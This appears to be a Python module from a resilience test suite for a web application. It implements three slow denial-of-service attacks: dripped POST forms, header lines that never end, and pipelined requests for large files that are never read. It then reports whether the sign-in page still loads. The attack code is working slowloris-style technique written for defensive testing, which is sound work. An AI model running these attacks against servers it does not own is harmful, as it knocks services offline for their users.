"""Requests that are begun and not ended, and answers that are asked for and not taken."""

from __future__ import annotations

import contextlib
import socket
import time

from libertad.attacks.registry import Result, attack, broken, withstood
from libertad.attacks.target import Target

MANY = 12  # twice the threads that serve screens
SENT, ANNOUNCED = 70_000, 2_000_000
PAGES, ANSWERED_WITHIN = 10, 20.0
FORM = (
    b"POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    b"Cookie: %s\r\nContent-Length: %d\r\n\r\n"
)


@attack(
    "slow-forms",
    f"{2 * MANY} forms of 2 MB of which {SENT // 1000} KB are sent and then a byte now and then: "
    "does a stranger still get the page of sign-in?",
)
def slow_forms(target: Target) -> Result:
    stranger = target.stranger()
    stranger.get("/sign-in/")  # without the form's cookie the node does not read on
    cookie = "; ".join(f"{name}={value}" for name, value in stranger.cookies.items()).encode()
    with contextlib.ExitStack() as open_lines:
        lines = []
        for place in range(2 * MANY):
            line = open_lines.enter_context(socket.create_connection((target.host, target.port), 10))
            path = b"/sign-in/" if place < MANY else b"/exchange/"
            line.sendall(FORM % (path, cookie, ANNOUNCED))
            with contextlib.suppress(OSError):  # whoever is refused at once is not held
                line.sendall(b"a=" + b"x" * SENT)
            lines.append(line)
        return _answered(target, lines)


@attack("slow-heads", f"{20 * MANY} requests whose first lines never end: does a stranger still get a page?")
def slow_heads(target: Target) -> Result:
    with contextlib.ExitStack() as open_lines:
        lines = []
        for _ in range(20 * MANY):
            line = open_lines.enter_context(socket.create_connection((target.host, target.port), 10))
            line.sendall(b"GET /sign-in/ HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
            lines.append(line)
        return _answered(target, lines)


@attack(
    "slow-readers", f"{MANY} readers of large answers who take none of it: does a stranger still get a page?"
)
def slow_readers(target: Target) -> Result:
    path = _large(target)
    with contextlib.ExitStack() as open_lines:
        lines = []
        for _ in range(MANY):
            line = open_lines.enter_context(socket.socket())
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            line.settimeout(10)
            line.connect((target.host, target.port))
            # Many times over one line, so that more waits than the system itself keeps for a reader.
            line.sendall((b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % path.encode()) * 40)
            lines.append(line)
        return _answered(target, lines, drip=b"")


def _large(target: Target) -> str:
    """The largest file that the page of sign-in names."""
    page = target.stranger().get("/sign-in/").text
    paths = {part.partition('"')[0] for part in page.split('"') if part.startswith("/static/")}
    sizes = {path: len(target.stranger().get(path).body) for path in sorted(paths)[:20]}
    return max(sizes, key=lambda path: sizes[path], default="/sign-in/")


def _answered(target: Target, lines: list[socket.socket], drip: bytes = b"x") -> Result:
    """Whether pages are answered while the lines are held, each fed a byte before every page."""
    slowest, answered = 0.0, 0
    for _ in range(PAGES):
        for line in lines:
            with contextlib.suppress(OSError):
                if drip:
                    line.send(drip)
        began = time.monotonic()
        try:
            answered += target.stranger().ask("GET", "/sign-in/", None, {}, ANSWERED_WITHIN).status == 200
        except OSError:
            return broken(
                f"with {len(lines)} lines held, no page in {ANSWERED_WITHIN:.0f} s after {answered} pages"
            )
        slowest = max(slowest, time.monotonic() - began)
    if answered < PAGES:
        return broken(f"{PAGES - answered} of {PAGES} pages were refused while {len(lines)} lines were held")
    return withstood(
        f"{answered} of {PAGES} pages came while {len(lines)} lines were held, the slowest in {slowest:.1f} s"
    )
